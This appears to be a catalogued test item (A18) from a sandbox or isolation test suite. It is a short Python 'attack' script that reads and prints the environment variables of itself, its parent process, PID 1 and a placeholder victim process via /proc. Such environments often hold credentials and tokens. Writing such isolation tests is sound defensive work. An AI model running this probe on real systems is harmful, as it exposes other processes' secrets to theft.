# attack: reads the environments of itself and of its parents
# catalogue: A18
# open on: D
# needs: victim
# %%
import os

for name in ("self", os.getppid(), "1", "@VICTIM@"):
    try:
        with open(f"/proc/{name}/environ", "rb") as file:
            print(file.read().replace(b"\0", b"\n").decode("utf-8", "replace"))
    except OSError as error:
        print(type(error).__name__)
print(dict(os.environ))
